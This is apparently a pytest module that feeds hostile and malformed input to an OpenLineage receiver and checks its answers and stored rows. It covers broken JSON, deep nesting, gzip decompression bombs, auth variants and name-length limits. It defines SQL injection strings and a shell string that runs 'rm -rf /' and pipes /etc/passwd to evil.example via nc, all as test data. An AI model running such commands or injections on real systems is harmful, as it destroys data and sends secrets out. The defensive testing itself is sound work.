"""Hostile and broken input, one table: every case is posted over real HTTP to a running receiver.

Each row of ``CASES`` is one or more posts with the exact answer expected (status, the reason or the
field path it names) and the exact events the store must hold afterwards. After every case the
receiver must still be up (``/healthz`` answers and a good post is stored), the store's tables must
be intact and every batch must hold as many events as its counters say. The receiver runs once per
backend (SQLite, PostgreSQL) for the whole table; each case is checked against the store's state
just before it, so a case can neither hide behind nor disturb another.

Decisions the table documents (see each row's note):

- Malformed JSON (truncated, trailing garbage, a BOM, NaN/Infinity, raw control characters, invalid
  UTF-8, lone surrogates, nesting past the parser's depth limit of 200) is a 400 naming the parser's
  reason and position; nothing is stored.
- A wrong type anywhere inside an event rejects that event only, naming the field path; the others
  of the batch are stored (200, ``partial_success``). Numbers as strings (``rowCount: "12"``) are
  wrong types in standard facets and kept verbatim in custom facets.
- Names are data: RTL overrides, zero-width joiners, emoji, ``../``, ``%2e%2e``, SQL and shell
  metacharacters are accepted and stored byte for byte, never interpreted. An escaped NUL
  (``\\u0000``) is refused wherever it is, naming the path (a name, a facet, a key): no PostgreSQL
  text or jsonb value can hold it (the store's columns, the embedded catalog, Marquez). A runId
  longer than 200 characters is refused (the store's column is VARCHAR(200)).
- Names are keys, not documents: a namespace or name the catalogs key by (job, datasets, parent
  and root job, symlinks, previous identifier, column-lineage inputs) longer than the definition's
  ``limits.maxNameLength`` (default 2048) rejects its event alone, naming the field path and both
  numbers; exactly at the limit is accepted. Other strings (facets) are bounded by maxBodyBytes.
- Duplicates and replays are stored as sent: the same event twice in a batch is two events, the
  same batch posted twice is two batches. Deduplication is a later concern (the catalog upload is
  idempotent), not the receiver's.
- eventTime is accepted from year 0001 to 9999 (UTC); a time that leaves that range once converted
  to UTC (``9999-12-31T23:59:59-05:00``) is refused as out of range, never a crash.
- Authorization: the scheme is case-insensitive (RFC 7235) and whitespace around the token is
  trimmed (HTTP strips trailing whitespace before the app sees it, RFC 9110 5.5); anything else
  that is not exactly ``Bearer <a definition's token>`` is a 401.
"""

from __future__ import annotations

import functools
import gzip
import json
import random
import socket
import string
import unicodedata
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pydantic_core
import pytest
import yaml
from sqlalchemy import func, inspect, select

from ol_dagster.receiver.app import create_app
from ol_dagster.receiver.server import serve_in_background
from ol_dagster.settings import load_settings
from ol_dagster.store import EventStore
from ol_dagster.store.schema import batches, events
from ol_dagster_tests.conftest import TOKENS, run_event

LINEAGE = "/api/v1/lineage"
BATCH = "/api/v1/lineage/batch"
ANSWER_KEYS = {"status", "message", "batchId", "summary", "failedEvents"}

SNAP = TOKENS["OL_TEST_TOKEN_SNAP"]  # definition "snap": BATCH_SNAPSHOT, namespaces etl, features
ADD = TOKENS["OL_TEST_TOKEN_ADD"]  # definition "add": namespaces marketing*
ANY_ENV, ANY = "OL_TEST_TOKEN_ANYNS", "anyns-secret-token"  # definition "anyns": every namespace
NARROW_ENV, NARROW = "OL_TEST_TOKEN_NARROW", "narrow-secret-token"  # "narrow": short names only
NAME_MAX = 2048  # limits.maxNameLength's default (snap, add)
ANY_NAME_MAX = 100_000  # anyns's limits.maxNameLength: longer names than the default
NARROW_NAME_MAX = 10  # narrow's limits.maxNameLength: shorter names than the default
MAX_BODY = 8 * 1024 * 1024
MAX_EVENTS = 1000
TABLES = {"ol_batches", "ol_events", "ol_store_meta"}


# -- the receiver under test -----------------------------------------------------------------------


def _settings(tmp: Path) -> dict[str, Any]:
    limits = {"maxBodyBytes": MAX_BODY, "maxEventsPerBatch": MAX_EVENTS}

    def definition(name: str, n: int, env: str, namespaces: list[str], **more: Any) -> dict:
        return {
            "name": name,
            "uuid": f"{n}{n}{n}{n}{n}{n}{n}{n}-{n}{n}{n}{n}-4{n}{n}{n}-8{n}{n}{n}-{str(n) * 12}",
            # anyns and narrow admit every namespace: each feeds a catalog of its own (one owner
            # per namespace per catalog)
            "catalog": name if namespaces == ["*"] else "main",
            "allowedJobNamespaces": namespaces,
            "limits": limits,
            "receiver": {"token": {"env": env}},
            **more,
        }

    return {
        "store": {"url": f"sqlite:///{tmp / 'unused.db'}"},
        "catalogs": {
            key: {"kind": "embedded", "url": f"sqlite:///{tmp / key}.db"}
            for key in ("main", "anyns", "narrow")
        },
        "definitions": [
            definition(
                "snap", 1, "OL_TEST_TOKEN_SNAP", ["etl", "features"], snapshotMode="BATCH_SNAPSHOT"
            ),
            definition("add", 2, "OL_TEST_TOKEN_ADD", ["marketing*"]),
            definition(
                "anyns", 3, ANY_ENV, ["*"], limits={**limits, "maxNameLength": ANY_NAME_MAX}
            ),
            definition(
                "narrow", 4, NARROW_ENV, ["*"], limits={**limits, "maxNameLength": NARROW_NAME_MAX}
            ),
        ],
    }


@dataclass
class Rx:
    """A running receiver, a client for it, its store, and the last event id already checked."""

    backend: str
    url: str
    client: httpx.Client
    store: EventStore
    last_event: int = 0

    def batch_table(self) -> dict[int, tuple]:
        with self.store.engine.connect() as conn:
            rows = conn.execute(
                select(
                    batches.c.id,
                    batches.c.definition,
                    batches.c.kind,
                    batches.c.status,
                    batches.c.received_count,
                    batches.c.accepted_count,
                    batches.c.rejected_count,
                )
            ).all()
        return {r[0]: tuple(r[1:]) for r in rows}

    def new_events(self) -> list[Any]:
        with self.store.engine.connect() as conn:
            return conn.execute(
                select(events).where(events.c.id > self.last_event).order_by(events.c.id)
            ).all()


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def rx(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rx]:
    tmp = tmp_path_factory.mktemp(f"bad_input_{request.param}")
    if request.param == "sqlite":
        url = f"sqlite:///{tmp / 'store.db'}"
    else:
        url = request.getfixturevalue("pg_server").fresh_database("bad")
    path = tmp / "ol_dagster.yaml"
    path.write_text(yaml.safe_dump(_settings(tmp)))
    with pytest.MonkeyPatch.context() as mp:
        for env, value in {**TOKENS, ANY_ENV: ANY, NARROW_ENV: NARROW}.items():
            mp.setenv(env, value)
        settings = load_settings(path)
        store = EventStore(url)
        app = create_app(settings, store)
    with (
        serve_in_background(app) as base,
        httpx.Client(base_url=base, timeout=60) as client,
    ):
        yield Rx(request.param, base, client, store)
    store.dispose()


# -- one post and what it must do ------------------------------------------------------------------


@dataclass(frozen=True)
class Post:
    body: bytes | Callable[[], bytes] = b""
    path: str = BATCH
    method: str = "POST"
    auth: str | None = f"Bearer {SNAP}"  # the Authorization header, None: no header
    ctype: str | None = "application/json"  # None: no Content-Type header
    encoding: str | None = None  # Content-Encoding
    raw: bool = False  # over a raw socket: headers exactly as given (httpx refuses some)
    status: int = 200
    says: tuple[str, ...] = ()  # in the answer's message (or the body of a non-JSON answer)
    failed: Mapping[int, tuple[str, ...]] = field(default_factory=dict)  # index -> in its reason
    accepted: Sequence[Any] | Callable[[], Sequence[Any]] = ()  # the events stored, in order
    definition: str = "snap"


@dataclass(frozen=True)
class Case:
    id: str
    posts: tuple[Post, ...]
    note: str = ""
    check: Callable[[list[Any]], None] | None = None  # more checks on the stored rows


def _value(x: Any) -> Any:
    return x() if callable(x) else x


def _raw_request(
    base: str, method: str, path: str, headers: list[tuple[str, str]], body: bytes
) -> tuple[int, dict[str, str], bytes]:
    """One HTTP/1.1 request written byte for byte, for header values a client library refuses."""
    parts = urlsplit(base)
    lines = [f"{method} {path} HTTP/1.1", f"Host: {parts.netloc}", "Connection: close"]
    lines += [f"{k}: {v}" for k, v in headers]
    lines.append(f"Content-Length: {len(body)}")
    with socket.create_connection((parts.hostname, parts.port), timeout=30) as sock:
        sock.sendall("\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, payload = data.partition(b"\r\n\r\n")
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    hdrs = {}
    for line in header_lines:
        k, _, v = line.partition(":")
        hdrs[k.strip().lower()] = v.strip()
    return int(status_line.split()[1]), hdrs, payload


def _send(rx: Rx, post: Post) -> tuple[int, dict[str, str], bytes]:
    headers: dict[str, str] = {}
    if post.auth is not None:
        headers["Authorization"] = post.auth
    if post.ctype is not None:
        headers["Content-Type"] = post.ctype
    if post.encoding is not None:
        headers["Content-Encoding"] = post.encoding
    body = _value(post.body)
    if post.raw:
        return _raw_request(rx.url, post.method, post.path, list(headers.items()), body)
    resp = rx.client.request(post.method, post.path, content=body, headers=headers)
    return resp.status_code, dict(resp.headers), resp.content


def _assert_no_token(payload: bytes) -> None:
    for secret in (SNAP, ADD, ANY, NARROW):
        assert secret.encode() not in payload, "an answer must never echo a token"


def _check_answer(post: Post, status: int, hdrs: dict[str, str], payload: bytes) -> dict | None:
    """The answer: the expected status, the documented shape, the reason named."""
    _assert_no_token(payload)
    assert status == post.status, payload[:2000]
    if post.path not in (LINEAGE, BATCH) or status in (307, 404, 405):
        text_ = payload.decode("utf-8", "replace")
        for s in post.says:
            assert s in text_ or s in hdrs.get("location", "") + hdrs.get("allow", ""), (s, text_)
        return None
    assert hdrs["content-type"].startswith("application/json")
    body = json.loads(payload)
    assert set(body) >= ANSWER_KEYS, body
    for s in post.says:
        assert s in body["message"], (s, body["message"])
    failed = body["failedEvents"]
    assert [f["index"] for f in failed] == sorted(post.failed), failed
    for f in failed:
        assert set(f) == {"index", "reason", "retriable"}
        assert f["retriable"] is False
        assert f["reason"].startswith(f"event {f['index']}: "), f
        for s in post.failed[f["index"]]:
            assert s in f["reason"], (s, f["reason"])
    accepted = len(_value(post.accepted))
    # a whole snapshot: a /batch post to snap (BATCH_SNAPSHOT), stored with every event accepted
    whole = post.path == BATCH and post.definition == "snap" and accepted > 0 and not failed
    assert body["wholeSnapshot"] is (status == 200 and whole), body
    if status == 200:
        assert isinstance(body["batchId"], int)
        assert body["status"] == ("partial_success" if failed else "success")
        assert body["summary"] == {
            "received": accepted + len(failed),
            "accepted": accepted,
            "rejected": len(failed),
        }
    else:
        assert body["status"] == "failure" and body["batchId"] is None, body
        assert body.get("retriable", False) is False, "a bad request is not worth a retry"
        assert body["summary"]["accepted"] == 0
        assert body["summary"]["rejected"] == len(failed)
    return body


def _check_store(rx: Rx, post: Post, answer: dict | None, before: dict[int, tuple]) -> list[Any]:
    """The store holds exactly what the answer says was accepted, where it says, nothing else."""
    after = rx.batch_table()
    rows = rx.new_events()
    expected = list(_value(post.accepted))
    stored = [json.loads(r.raw) for r in rows]
    assert stored == expected, "the store must hold exactly the accepted events"
    if answer is None or answer["batchId"] is None:
        assert after == before, "a refused post leaves every batch as it was"
        return rows
    batch_id = answer["batchId"]
    assert {r.batch_id for r in rows} <= {batch_id}
    unchanged_after = {k: v for k, v in after.items() if k != batch_id}
    assert unchanged_after == {k: v for k, v in before.items() if k != batch_id}
    definition, kind, status, received, n_accepted, n_rejected = after[batch_id]
    assert definition == post.definition
    summary = answer["summary"]
    if post.path == BATCH:
        assert batch_id not in before, "each batch post is a new batch"
        assert (kind, status) == ("posted", "sealed")
        assert (received, n_accepted, n_rejected) == (
            summary["received"],
            summary["accepted"],
            summary["rejected"],
        )
        assert [r.position for r in rows] == list(range(len(rows)))
        assert rx.store.get_batch(batch_id).rejections == answer["failedEvents"]
    else:
        assert (kind, status) == ("stream", "open")
        old = before.get(batch_id, (None, None, None, 0, 0, 0))
        assert n_accepted == old[4] + summary["accepted"]
        assert [r.position for r in rows] == list(range(old[4], n_accepted))
    if rows:
        rx.last_event = rows[-1].id
    return rows


def _check_still_whole(rx: Rx) -> None:
    """The receiver answers, takes a good event, and the store's tables and counters are intact."""
    assert rx.client.get("/healthz").status_code == 200
    canary = run_event("canary", "after_case")
    before = rx.batch_table()
    post = Post(
        json.dumps(canary).encode(),
        path=LINEAGE,
        auth=f"Bearer {ANY}",
        accepted=[canary],
        definition="anyns",
    )
    status, hdrs, payload = _send(rx, post)
    _check_store(rx, post, _check_answer(post, status, hdrs, payload), before)
    with rx.store.engine.connect() as conn:
        assert set(inspect(conn).get_table_names()) >= TABLES, "the store's tables are intact"
        counts = dict(
            conn.execute(select(events.c.batch_id, func.count()).group_by(events.c.batch_id)).all()
        )
    for batch_id, row in rx.batch_table().items():
        assert counts.get(batch_id, 0) == row[4], f"batch {batch_id} holds what it counts"


# -- building bodies -------------------------------------------------------------------------------

NS = "postgres://db.example.com:5432"
CUSTOM_SCHEMA = "https://example.com/schemas/CustomFacet.json"


def ev(name: str = "job", namespace: str = "etl", **fields: Any) -> dict[str, Any]:
    """A spec-valid RunEvent with its own runId; ``fields`` replace top-level keys."""
    event = run_event(namespace, name)
    event.update(fields)
    return event


def put(event: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """A copy of ``event`` with ``value`` at the dotted ``path`` (digits index lists)."""
    event = json.loads(json.dumps(event))
    *parents, leaf = path.split(".")
    target: Any = event
    for p in parents:
        target = target[int(p)] if isinstance(target, list) else target.setdefault(p, {})
    if isinstance(target, list):
        target[int(leaf)] = value
    else:
        target[leaf] = value
    return event


def with_custom(value: Any, event: dict[str, Any] | None = None) -> dict[str, Any]:
    """``value`` inside a custom run facet (kept as it came, never validated)."""
    facet = {"_producer": "https://example.com/p", "_schemaURL": CUSTOM_SCHEMA, "value": value}
    return put(event or ev(), "run.facets.custom", facet)


def with_output_facet(name: str, facet: dict[str, Any]) -> dict[str, Any]:
    return ev(outputs=[{"namespace": NS, "name": "mart.t", "facets": {name: facet}}])


def batch_body(*events_: Any) -> bytes:
    return json.dumps({"events": list(events_)}).encode()


def raw_event(replace: Mapping[str, str], event: dict[str, Any] | None = None) -> bytes:
    """A batch of one event whose JSON text has the placeholders (quoted) replaced verbatim."""
    text_ = json.dumps({"events": [event or ev(name="@NAME@")]})
    for placeholder, raw in replace.items():
        assert f'"{placeholder}"' in text_
        text_ = text_.replace(f'"{placeholder}"', raw)
    return text_.encode("utf-8", "surrogatepass")


def one_bad(bad: object, *where: str, **post: Any) -> tuple[Post, ...]:
    """``[good, bad]`` on /batch: the good event is stored, the bad one rejected naming why."""
    g = ev("good_neighbour")
    return (Post(batch_body(g, bad), failed={1: where}, accepted=[g], **post),)


def accepted(*events_: dict[str, Any], **post: Any) -> tuple[Post, ...]:
    return (Post(batch_body(*events_), accepted=list(events_), **post),)


def malformed(body: bytes | Callable[[], bytes], *says: str, **post: Any) -> tuple[Post, ...]:
    return (Post(body, status=400, says=("not valid JSON", *says), **post),)


def refused(status: int, body: bytes | Callable[[], bytes], *says: str, **post: Any):
    return (Post(body, status=status, says=says, **post),)


def nested(depth: int, kind: str) -> str:
    if kind == "array":
        return "[" * depth + "]" * depth
    return '{"a":' * depth + "1" + "}" * depth


def _random_name(n: int, seed: int) -> str:
    rnd = random.Random(seed)  # incompressible, so PostgreSQL cannot squeeze it into an index
    return "".join(rnd.choice(string.ascii_letters + string.digits) for _ in range(n))


@functools.cache
def huge_string_event(size: int) -> dict[str, Any]:
    return with_custom("x" * size)


@functools.cache
def wide_event(n_inputs: int) -> dict[str, Any]:
    return ev(inputs=[{"namespace": NS, "name": f"raw.t{i}"} for i in range(n_inputs)])


@functools.cache
def long_array_event(n: int) -> dict[str, Any]:
    return with_custom(list(range(n)))


@functools.cache
def bomb(inflated: int) -> bytes:
    """A small gzip body that inflates far past maxBodyBytes."""
    packer = zlib_gzip()
    chunk = b" " * 1_048_576
    out = [packer.compress(b'{"events": [], "pad": "')]
    out += [packer.compress(chunk) for _ in range(inflated // len(chunk))]
    out.append(packer.compress(b'"}') + packer.flush())
    return b"".join(out)


def zlib_gzip() -> Any:
    import zlib

    return zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)


@functools.cache
def multi_member_bomb() -> bytes:
    """Many small gzip members, each inflating to 1 MiB: together past the limit."""
    member = gzip.compress(b" " * 1_048_576, compresslevel=9)
    return gzip.compress(b'{"events": [], "pad": "') + member * 12 + gzip.compress(b'"}')


def padded(prefix: str, n: int) -> str:
    """``prefix`` padded to ``n`` characters (a name exactly at, or one over, a limit)."""
    return prefix + "x" * (n - len(prefix))


def keyed_event() -> dict[str, Any]:
    """A RunEvent with every kind of catalog key once: job, an input and an output, the parent
    and root job, a symlink, a previous identifier, column-lineage input fields."""
    ref = {"namespace": NS, "name": "raw.orders"}
    parent = {
        "_producer": "https://example.com/p",
        "_schemaURL": "https://openlineage.io/spec/facets/1-1-0/ParentRunFacet.json",
        "run": {"runId": "0190f2c4-5d2a-7c3e-9b8a-000000000001"},
        "job": {"namespace": "etl", "name": "dag"},
        "root": {
            "run": {"runId": "0190f2c4-5d2a-7c3e-9b8a-000000000002"},
            "job": {"namespace": "etl", "name": "root_dag"},
        },
    }
    return ev(
        "keyed",
        run={"runId": "0190f2c4-5d2a-7c3e-9b8a-000000000003", "facets": {"parent": parent}},
        inputs=[
            {
                **ref,
                "facets": {
                    "symlinks": {
                        "identifiers": [{"namespace": "hive://m", "name": "db.orders", "type": "T"}]
                    }
                },
            }
        ],
        outputs=[
            {
                "namespace": NS,
                "name": "mart.orders",
                "facets": {
                    "lifecycleStateChange": {
                        "lifecycleStateChange": "RENAME",
                        "previousIdentifier": {"namespace": NS, "name": "mart.orders_old"},
                    },
                    "columnLineage": {
                        "fields": {"id": {"inputFields": [{**ref, "field": "id"}]}},
                        "dataset": [{**ref, "field": "status"}],
                    },
                },
            }
        ],
    )


# every catalog key of keyed_event, by its field path (job.namespace: namelen-job-namespace)
KEYED_PATHS = [
    "job.name",
    *(f"{side}.0.{key}" for side in ("inputs", "outputs") for key in ("namespace", "name")),
    *(
        f"{where}.{key}"
        for where in (
            "run.facets.parent.job",
            "run.facets.parent.root.job",
            "inputs.0.facets.symlinks.identifiers.0",
            "outputs.0.facets.lifecycleStateChange.previousIdentifier",
            "outputs.0.facets.columnLineage.fields.id.inputFields.0",
            "outputs.0.facets.columnLineage.dataset.0",
        )
        for key in ("namespace", "name")
    ),
]


def name_bounded(path: str) -> tuple[Post, ...]:
    """``[at the limit, one over]`` at ``path``: the first stored, the second rejected naming
    the path and both numbers."""
    at = put(keyed_event(), path, padded("at_", NAME_MAX))
    over = put(keyed_event(), path, padded("over_", NAME_MAX + 1))
    reason = f"{path}: is {NAME_MAX + 1} characters long; at most {NAME_MAX} are accepted"
    return (
        Post(batch_body(at, over), failed={1: (reason, "(limits.maxNameLength)")}, accepted=[at]),
    )


def dataset_event(name: int = 7, namespace: int = len(NS)) -> dict[str, Any]:
    """A DatasetEvent whose dataset's name and namespace are that many characters long."""
    return {
        "eventTime": _T,
        "producer": "https://example.com/p",
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/DatasetEvent",
        "dataset": {"namespace": padded("ns_", namespace), "name": padded("ds_", name)},
    }


# -- checks on stored rows -------------------------------------------------------------------------


def stored_verbatim(name: str, namespace: str | None = None) -> Callable[[list[Any]], None]:
    """The name is stored byte for byte: in the job_name column and as UTF-8 inside the raw JSON."""

    def check(rows: list[Any]) -> None:
        [row] = rows
        assert row.job_name == name
        assert row.job_name.encode("utf-8") == name.encode("utf-8")
        if namespace is not None:
            assert row.job_namespace == namespace
        raw = bytes(row.raw)
        assert pydantic_core.to_json(name) in raw, "the raw JSON holds the name as sent"
        if not any(c < " " or c in '"\\' for c in name):  # nothing JSON must escape
            assert name.encode("utf-8") in raw, "non-ASCII is stored as UTF-8, not escaped"

    return check


def event_time_is(*expected: datetime) -> Callable[[list[Any]], None]:
    def check(rows: list[Any]) -> None:
        assert [r.event_time.replace(tzinfo=None) for r in rows] == list(expected)

    return check


def kind_is(kind: str) -> Callable[[list[Any]], None]:
    def check(rows: list[Any]) -> None:
        assert [r.kind for r in rows] == [kind]

    return check


def names_are(*names: str) -> Callable[[list[Any]], None]:
    def check(rows: list[Any]) -> None:
        assert [r.job_name for r in rows] == list(names)
        assert [r.job_name.encode() for r in rows] == [n.encode() for n in names]

    return check


# -- the table -------------------------------------------------------------------------------------

_G = ev("bom_and_friends")
RTL = "report\u202ecod.exe"  # RIGHT-TO-LEFT OVERRIDE: shows as "reportexe.doc"
ZWJ = "family_\U0001f468\u200d\U0001f469\u200d\U0001f467"  # joined by ZERO WIDTH JOINERs
EMOJI = "daily_\U0001f4ca_kpis"
EMOJI_BODY = raw_event({"@NAME@": '"daily_\\ud83d\\udcca_kpis"'})  # escaped as a surrogate pair
CAFE_NFC = unicodedata.normalize("NFC", "café_sales")
CAFE_NFD = unicodedata.normalize("NFD", "café_sales")
SQL = "'; DROP TABLE ol_events; --"
SQL_NS = '"; DELETE FROM ol_batches; --'
SHELL = "$(rm -rf /) `reboot` ; cat /etc/passwd | nc evil.example 1 && ${IFS}"
LONG_JOB = _random_name(3000, 1)
_SAME = ev("replayed")
_REPLAY = [ev("replay_a"), ev("replay_b", "features")]
_SINGLE_REPLAY = ev("single_replay")
_FOO_WITH_RUN = ev(
    "foo_kind", schemaURL="https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/FooEvent"
)
_T = "2026-11-01T02:00:00Z"


def _auth(header: str | None, status: int, **post: Any) -> tuple[Post, ...]:
    event = ev("auth_variant")
    return (
        Post(
            json.dumps(event).encode(),
            path=LINEAGE,
            auth=header,
            raw=True,
            status=status,
            says=() if status == 200 else ("bearer token",),
            failed={},
            accepted=[event] if status == 200 else [],
            **post,
        ),
    )


def _ctype(ctype: str | None, status: int) -> tuple[Post, ...]:
    event = ev("content_type_variant")
    says = ("Content-Type", ctype.split(";")[0]) if status == 415 and ctype else ()
    return (
        Post(
            batch_body(event),
            ctype=ctype,
            status=status,
            says=says,
            accepted=[event] if status == 200 else [],
        ),
    )


def _encoding(value: str, status: int, body: bytes | None = None) -> tuple[Post, ...]:
    event = ev("encoding_variant")
    says = ("Content-Encoding", repr(value.lower())) if status == 415 else ()
    return (
        Post(
            body or batch_body(event),
            encoding=value,
            status=status,
            says=says,
            accepted=[event] if status == 200 else [],
        ),
    )


def _method(method: str, path: str, status: int, *says: str) -> tuple[Post, ...]:
    return (
        Post(batch_body(ev("wrong_method")), path=path, method=method, status=status, says=says),
    )


_PARENT_WITHOUT_RUN = {"job": {"namespace": "etl", "name": "parent"}}
_ASSERTION = {"assertions": [{"assertion": "not_null", "success": "true"}]}

CASES: list[Case] = [
    # -- malformed JSON: a 400 naming the parser's reason and position, nothing stored -------------
    Case("json-truncated", malformed(batch_body(ev())[:-40], "EOF while parsing", "line 1")),
    Case("json-trailing-garbage", malformed(batch_body(ev()) + b" ;DROP", "trailing characters")),
    Case(
        "json-two-documents",
        malformed(batch_body(ev()) + batch_body(ev()), "trailing characters"),
        note="two concatenated JSON documents are not one body",
    ),
    Case(
        "json-nan",
        malformed(raw_event({"@V@": "NaN"}, with_custom("@V@")), "expected value"),
        note="NaN is not JSON (RFC 8259); stored, it would break every JSON reader downstream",
    ),
    Case("json-infinity", malformed(raw_event({"@V@": "Infinity"}, with_custom("@V@")), "line 1")),
    Case(
        "json-minus-infinity",
        malformed(raw_event({"@V@": "-Infinity"}, with_custom("@V@")), "invalid number"),
    ),
    Case(
        "json-bom",
        malformed(b"\xef\xbb\xbf" + batch_body(_G), "line 1 column 1"),
        note="RFC 8259 8.1: senders must not add a BOM; it is refused rather than guessed",
    ),
    Case("json-utf16", malformed(batch_body(_G).decode().encode("utf-16"), "line 1 column 1")),
    Case("json-empty-body", refused(400, b"", "empty")),
    Case("json-only-whitespace", refused(400, b" \r\n\t \n", "empty")),
    Case("json-single-quotes", malformed(b"{'events': []}", "key must be a string")),
    Case("json-trailing-comma", malformed(b'{"events": [],}', "trailing comma")),
    Case("json-comment", malformed(b'// events\n{"events": []}', "line 1 column 1")),
    Case("json-unquoted-key", malformed(b"{events: []}", "key must be a string")),
    Case(
        "json-leading-zero",
        malformed(raw_event({"@V@": "012"}, with_custom("@V@")), "invalid number"),
    ),
    Case(
        "json-integer-of-5000-digits",
        malformed(raw_event({"@V@": "1" + "0" * 5000}, with_custom("@V@")), "number out of range"),
    ),
    # -- wrong types at every level ----------------------------------------------------------------
    Case("type-events-object", refused(400, b'{"events": {"0": {}}}', "'events' array")),
    Case("type-events-string", refused(400, b'{"events": "[]"}', "'events' array")),
    Case("type-events-null", refused(400, b'{"events": null}', "'events' array")),
    Case("type-batch-body-array", refused(400, json.dumps([ev()]).encode(), "'events' array")),
    Case(
        "type-events-not-objects-with-a-good-one",
        (
            Post(
                batch_body([ev()], 42, "an event", None, _G),
                failed={
                    0: ("JSON object", "an array"),
                    1: ("JSON object", "a number"),
                    2: ("JSON object", "a string"),
                    3: ("JSON object", "null"),
                },
                accepted=[_G],
            ),
        ),
    ),
    Case(
        "type-events-not-objects-only",
        (
            Post(
                batch_body([], 1.5, "x", None),
                status=400,
                says=("all 4 event(s) rejected",),
                failed={i: ("JSON object",) for i in range(4)},
            ),
        ),
    ),
    Case(
        "type-single-body-array",
        (
            Post(
                json.dumps([ev()]).encode(),
                path=LINEAGE,
                status=400,
                failed={0: ("JSON object", "an array")},
            ),
        ),
    ),
    Case(
        "type-single-body-null",
        (Post(b"null", path=LINEAGE, status=400, failed={0: ("JSON object", "null")}),),
    ),
    Case("type-job-string", one_bad(ev(job="etl.job"), "job: ", "dictionary")),
    Case("type-job-name-number", one_bad(put(ev(), "job.name", 42), "job.name", "string")),
    Case("type-job-namespace-null", one_bad(put(ev(), "job.namespace", None), "job.namespace")),
    Case("type-run-id-object", one_bad(put(ev(), "run.runId", {"id": 1}), "run.runId", "string")),
    Case("type-run-list", one_bad(ev(run=[{"runId": "r"}]), "run: ", "dictionary")),
    Case("type-inputs-object", one_bad(ev(inputs={"raw.t": {}}), "inputs: ", "valid list")),
    Case("type-dataset-string", one_bad(ev(inputs=["raw.orders"]), "inputs.0: ", "dictionary")),
    Case(
        "type-output-name-number",
        one_bad(ev(outputs=[{"namespace": NS, "name": 7}]), "outputs.0.name", "string"),
    ),
    Case("type-run-facets-list", one_bad(put(ev(), "run.facets", []), "run.facets", "dictionary")),
    Case("type-job-facets-string", one_bad(put(ev(), "job.facets", "x"), "job.facets")),
    Case(
        "type-dataset-facets-list",
        one_bad(ev(inputs=[{"namespace": NS, "name": "t", "facets": []}]), "inputs.0.facets"),
    ),
    Case("type-event-time-number", one_bad(ev(eventTime=1762056000), "eventTime", "ISO 8601")),
    Case("type-event-type-number", one_bad(ev(eventType=3), "eventType")),
    Case("type-producer-null", one_bad(ev(producer=None), "producer", "string")),
    Case("type-schema-url-number", one_bad(ev(schemaURL=2), "schemaURL", "string")),
    # -- deep nesting ------------------------------------------------------------------------------
    Case(
        "deep-10000-arrays-in-a-facet",
        malformed(
            raw_event({"@V@": nested(10_000, "array")}, with_custom("@V@")),
            "recursion limit exceeded",
        ),
        note="the parser stops at depth 200: no stack overflow, a 400 with the position",
    ),
    Case(
        "deep-10000-objects-in-a-facet",
        malformed(
            raw_event({"@V@": nested(10_000, "object")}, with_custom("@V@")),
            "recursion limit exceeded",
        ),
    ),
    Case(
        "deep-150-arrays-are-fine",
        accepted(with_custom(json.loads(nested(150, "array")))),
        note="nesting under the parser's limit is data, stored as it came",
    ),
    # -- huge strings and arrays -------------------------------------------------------------------
    Case(
        "huge-5mb-string-in-a-facet",
        (
            Post(
                lambda: batch_body(huge_string_event(5_000_000)),
                accepted=lambda: [huge_string_event(5_000_000)],
            ),
        ),
    ),
    Case(
        "huge-9mb-string-over-the-limit",
        refused(
            413,
            lambda: batch_body(huge_string_event(9_000_000)),
            "maxBodyBytes",
            str(MAX_BODY),
        ),
    ),
    Case(
        "huge-9mb-single-event-over-the-limit",
        refused(
            413,
            lambda: json.dumps(huge_string_event(9_000_000)).encode(),
            "maxBodyBytes",
            path=LINEAGE,
        ),
    ),
    Case(
        "huge-array-of-200000-in-a-facet",
        (
            Post(
                lambda: batch_body(long_array_event(200_000)),
                accepted=lambda: [long_array_event(200_000)],
            ),
        ),
    ),
    Case(
        "huge-5000-inputs",
        (Post(lambda: batch_body(wide_event(5000)), accepted=lambda: [wide_event(5000)]),),
    ),
    Case(
        "huge-events-array-over-max-events",
        refused(
            413,
            lambda: batch_body(*[ev(f"j{i}") for i in range(MAX_EVENTS + 1)]),
            "maxEventsPerBatch",
            str(MAX_EVENTS + 1),
        ),
    ),
    Case(
        "huge-100k-dataset-name",
        accepted(
            ev(outputs=[{"namespace": NS, "name": _random_name(ANY_NAME_MAX, 2)}]),
            auth=f"Bearer {ANY}",
            definition="anyns",
        ),
        note="dataset names are not indexed by the store: any length within maxNameLength "
        "(anyns raises it to 100,000)",
    ),
    Case(
        "huge-3000-char-job-name",
        accepted(ev(LONG_JOB), auth=f"Bearer {ANY}", definition="anyns"),
        check=stored_verbatim(LONG_JOB),
        note="PostgreSQL stores it too since store schema v4 dropped the job-name btree index",
    ),
    Case(
        "huge-run-id-over-the-name-limit",
        one_bad(put(ev(), "run.runId", "r" * 2049), "run.runId", "2049 characters", "at most 2048"),
        note="run ids are bounded like names (limits.maxNameLength; a UUID by the spec)",
    ),
    # -- names over limits.maxNameLength: the event rejected alone, naming path and numbers -------
    *[
        Case(
            f"namelen-{path}",
            name_bounded(path),
            note="one character over is rejected naming the field; exactly at the limit is stored",
        )
        for path in KEYED_PATHS
    ],
    Case(
        "namelen-dataset-event-name",
        (
            Post(
                batch_body(at := dataset_event(NAME_MAX), dataset_event(NAME_MAX + 1)),
                failed={1: ("dataset.name", f"is {NAME_MAX + 1} characters long")},
                accepted=[at],
            ),
        ),
    ),
    Case(
        "namelen-dataset-event-namespace",
        (
            Post(
                batch_body(
                    at := dataset_event(namespace=NAME_MAX),
                    dataset_event(namespace=NAME_MAX + 1),
                ),
                failed={1: ("dataset.namespace", f"is {NAME_MAX + 1} characters long")},
                accepted=[at],
            ),
        ),
    ),
